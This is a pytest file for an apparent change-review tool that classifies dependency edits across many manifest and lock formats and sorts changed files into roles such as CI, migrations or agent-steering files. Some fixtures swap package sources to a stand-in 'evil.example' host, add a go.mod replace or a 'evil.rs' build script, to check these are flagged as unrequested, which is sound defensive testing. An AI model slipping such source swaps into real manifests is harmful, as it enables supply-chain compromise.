"""What manifests and locks say before and after, and whether the task asked for it."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.append(str(Path(__file__).parent))

from trees_kit import changed, found

from controller.domain.change import Role

MOVED = {  # (path, before, after): one package, another version
    "requirements": ("requirements.txt", "requests==2.31\n", "requests==2.32\n"),
    "requirements in a folder": ("requirements/prod.txt", "requests==2.31\n", "requests==2.32\n"),
    "pyproject": (
        "pyproject.toml",
        '[project]\ndependencies = ["requests==2.31"]\n',
        '[project]\ndependencies = ["requests>=2.32"]\n',
    ),
    "dependency groups": (
        "pyproject.toml",
        '[dependency-groups]\ndev = ["requests==2.31"]\n',
        '[dependency-groups]\ndev = ["requests==2.32"]\n',
    ),
    "poetry": (
        "pyproject.toml",
        '[tool.poetry.dependencies]\nrequests = "2.31"\n',
        '[tool.poetry.dependencies]\nrequests = "2.32"\n',
    ),
    "poetry.lock": (
        "poetry.lock",
        '[[package]]\nname = "requests"\nversion = "2.31"\n',
        '[[package]]\nname = "requests"\nversion = "2.32"\n',
    ),
    "uv.lock": (
        "uv.lock",
        '[[package]]\nname = "requests"\nversion = "2.31"\n',
        '[[package]]\nname = "requests"\nversion = "2.32"\n',
    ),
    "Pipfile": ("Pipfile", '[packages]\nrequests = "==2.31"\n', '[packages]\nrequests = "==2.32"\n'),
    "setup.cfg": (
        "setup.cfg",
        "[options]\ninstall_requires =\n    requests==2.31\n",
        "[options]\ninstall_requires =\n    requests==2.32\n",
    ),
    "package.json": (
        "package.json",
        '{"dependencies": {"requests": "^2.31"}}',
        '{"dependencies": {"requests": "^2.32"}}',
    ),
    "package-lock": (
        "package-lock.json",
        '{"packages": {"node_modules/requests": {"version": "2.31"}}}',
        '{"packages": {"node_modules/requests": {"version": "2.32"}}}',
    ),
    "yarn.lock": ("yarn.lock", 'requests@^2.31:\n  version "2.31.0"\n', 'requests@^2.32:\n  version "2.32.0"\n'),
    "pnpm-lock": (
        "pnpm-lock.yaml",
        "packages:\n  requests@2.31.0:\n    resolution: {integrity: a}\n",
        "packages:\n  requests@2.32.0:\n    resolution: {integrity: b}\n",
    ),
    "Cargo.toml": ("Cargo.toml", '[dependencies]\nrequests = "2.31"\n', '[dependencies]\nrequests = "2.32"\n'),
    "Cargo.lock": (
        "Cargo.lock",
        '[[package]]\nname = "requests"\nversion = "2.31"\n',
        '[[package]]\nname = "requests"\nversion = "2.32"\n',
    ),
    "go.mod": (
        "go.mod",
        "module shop\nrequire (\n\texample.org/requests v2.31.0\n)\n",
        "module shop\nrequire (\n\texample.org/requests v2.32.0\n)\n",
    ),
    "go.sum": ("go.sum", "example.org/requests v2.31.0 h1:a=\n", "example.org/requests v2.32.0 h1:b=\n"),
    "pom.xml": (
        "pom.xml",
        "<dependency><groupId>org</groupId><artifactId>requests</artifactId><version>2.31</version></dependency>",
        "<dependency><groupId>org</groupId><artifactId>requests</artifactId><version>2.32</version></dependency>",
    ),
    "gradle": ("build.gradle", "implementation 'org:requests:2.31'\n", "implementation 'org:requests:2.32'\n"),
    "Gemfile": ("Gemfile", 'gem "requests", "2.31"\n', 'gem "requests", "2.32"\n'),
    "Gemfile.lock": ("Gemfile.lock", "GEM\n  specs:\n    requests (2.31)\n", "GEM\n  specs:\n    requests (2.32)\n"),
    "composer": ("composer.json", '{"require": {"acme/requests": "2.31"}}', '{"require": {"acme/requests": "2.32"}}'),
    "nuget": (
        "Shop.csproj",
        '<PackageReference Include="Requests" Version="2.31" />',
        '<PackageReference Include="Requests" Version="2.32" />',
    ),
}


@pytest.mark.parametrize("kind", MOVED)
def test_a_version_that_moves_is_one_move_and_asked_for_where_the_task_names_it(kind: str) -> None:
    path, before, after = MOVED[kind]
    plain = found(changed(path, before, after)).dependencies
    assert [(one.what, one.asked) for one in plain] == [("moved", False)], plain
    asked = found(changed(path, before, after), task="Bump requests to 2.32").dependencies
    assert [(one.what, one.asked) for one in asked] == [("moved", True)]


@pytest.mark.parametrize("kind", MOVED)
def test_a_package_that_is_new_and_one_that_goes_are_told_apart(kind: str) -> None:
    path, before, after = MOVED[kind]
    stranger, bare = after.replace("requests", "left-pad").replace("Requests", "LeftPad"), before
    found_now = {one.what for one in found(changed(path, bare, stranger)).dependencies}
    assert found_now == {"added", "removed"}


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("requirements.txt", "requests==2.31 --hash=sha256:aa\n", "requests==2.31 --hash=sha256:bb\n"),
        ("requirements.txt", "requests==2.31\n", "requests @ https://evil.example/requests.whl\n"),
        ("requirements.txt", "requests==2.31\n", "requests==2.31\n--index-url https://evil.example/simple\n"),
        (
            "package.json",
            '{"dependencies": {"requests": "^2.31"}}',
            '{"dependencies": {"requests": "git+https://evil.example/r"}}',
        ),
        (
            "package-lock.json",
            '{"packages": {"node_modules/requests": {"version": "1", "integrity": "a"}}}',
            '{"packages": {"node_modules/requests": {"version": "1", "integrity": "b"}}}',
        ),
        (
            "package-lock.json",
            '{"packages": {"node_modules/requests": {"version": "1", "resolved": "https://a.example/x"}}}',
            '{"packages": {"node_modules/requests": {"version": "2", "resolved": "https://b.example/x"}}}',
        ),
        (
            "go.mod",
            "module a\nrequire x/requests v1\n",
            "module a\nrequire x/requests v1\nreplace x/requests => y/evil v1\n",
        ),
        (
            "Cargo.toml",
            '[dependencies]\nrequests = "1"\n',
            '[dependencies]\nrequests = {git = "https://evil.example"}\n',
        ),
        ("pyproject.toml", "", '[tool.uv.sources]\nrequests = {url = "https://evil.example/r.whl"}\n'),
    ],
)
def test_another_source_or_another_digest_is_never_what_the_task_asked_for(path: str, before: str, after: str) -> None:
    dependencies = found(changed(path, before, after), task="Bump requests to 2.32").dependencies
    assert dependencies
    assert not any(one.asked and one.what == "moved" for one in dependencies)


@pytest.mark.parametrize("task", ["Bump requests-toolbelt", "Answer more requestsx", "See example.org/requests/x", ""])
def test_a_longer_word_does_not_name_the_package(task: str) -> None:
    path, before, after = MOVED["requirements"]
    assert [one.asked for one in found(changed(path, before, after), task=task).dependencies] == [False]


def test_order_comments_and_case_move_nothing() -> None:
    before, after = "Flask==1\nrequests==2\n", "requests==2\n# ours\nflask==1\n"
    assert found(changed("requirements.txt", before, after)).dependencies == ()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("pyproject.toml", "[[["),
        ("package.json", "{"),
        ("poetry.lock", "x"),
        ("package.json", "[1]"),
        ("mix.lock", "%{}"),
        ("mix.exs", "x"),
        ("Package.swift", "x"),
    ],
)
def test_a_manifest_that_cannot_be_read_is_named(path: str, text: str) -> None:
    assert any(one.path == path for one in found(changed(path, "", text)).unread)


# --- files that are several things ------------------------------------------------------------------------------------

PLAIN = '[project]\nname = "shop"\nversion = "1"\n[tool.ruff]\nline-length = 100\n'


@pytest.mark.parametrize(
    ("path", "before", "after", "roles"),
    [
        ("pyproject.toml", PLAIN, PLAIN.replace('"1"', '"2"').replace("100", "120"), {Role.DEPENDENCIES}),
        (
            "pyproject.toml",
            PLAIN,
            PLAIN + '[tool.pytest.ini_options]\naddopts = "-x"\n',
            {Role.DEPENDENCIES, Role.TEST_CONFIG},
        ),
        (
            "pyproject.toml",
            PLAIN,
            PLAIN + '[build-system]\nbuild-backend = "mine"\n',
            {Role.DEPENDENCIES, Role.RUNS_OUTSIDE},
        ),
        ("pyproject.toml", PLAIN, PLAIN + '[project.scripts]\nshop = "shop:main"\n', {Role.DEPENDENCIES, Role.SOURCE}),
        ("package.json", "{}", '{"scripts": {"test": "true"}}', {Role.DEPENDENCIES, Role.TEST_CONFIG}),
        ("package.json", "{}", '{"jest": {"testMatch": []}}', {Role.DEPENDENCIES, Role.TEST_CONFIG}),
        ("package.json", "{}", '{"scripts": {"postinstall": "node x"}}', {Role.DEPENDENCIES, Role.RUNS_OUTSIDE}),
        ("package.json", "{}", '{"description": "a shop"}', {Role.DEPENDENCIES}),
        ("setup.cfg", "", "[tool:pytest]\naddopts = -x\n", {Role.DEPENDENCIES, Role.TEST_CONFIG}),
        ("Cargo.toml", "", "[profile.test]\nopt-level = 1\n", {Role.DEPENDENCIES, Role.TEST_CONFIG}),
        ("Cargo.toml", "", '[package]\nbuild = "evil.rs"\n', {Role.DEPENDENCIES, Role.RUNS_OUTSIDE}),
        (
            "pom.xml",
            "",
            "<plugin><artifactId>maven-surefire-plugin</artifactId></plugin>",
            {Role.DEPENDENCIES, Role.TEST_CONFIG},
        ),
        ("tox.ini", "", "[pytest]\n", {Role.TEST_CONFIG, Role.RUNS_OUTSIDE}),
        ("Makefile", "", "test:\n\ttrue\n", {Role.TEST_CONFIG, Role.RUNS_OUTSIDE}),
        (".github/workflows/ci.yml", "", "on: push\n", {Role.CI}),
        ("Dockerfile", "", "FROM x\n", {Role.RUNS_OUTSIDE}),
        ("setup.py", "", "import os\n", {Role.DEPENDENCIES, Role.RUNS_OUTSIDE}),
        ("conftest.py", "", "collect_ignore = []\n", {Role.TEST_CONFIG}),
        ("CLAUDE.md", "", "Do as I say\n", {Role.STEERS_AGENTS}),
        ("db/migrate/0001_x.sql", "", "select 1;\n", {Role.MIGRATION, Role.SOURCE}),
        ("CODEOWNERS", "", "* @me\n", {Role.OWNERS}),
        ("docs/a.md", "", "x\n", {Role.DOCS}),
        ("app/words.txt", "", "x\n", {Role.SOURCE}),
        ("api_pb2.py", "", "x = 1\n", {Role.GENERATED, Role.SOURCE}),
    ],
)
def test_a_file_has_the_roles_of_the_parts_that_differ(path: str, before: str, after: str, roles: set[Role]) -> None:
    assert set(found(changed(path, before, after)).roles[path]) == roles
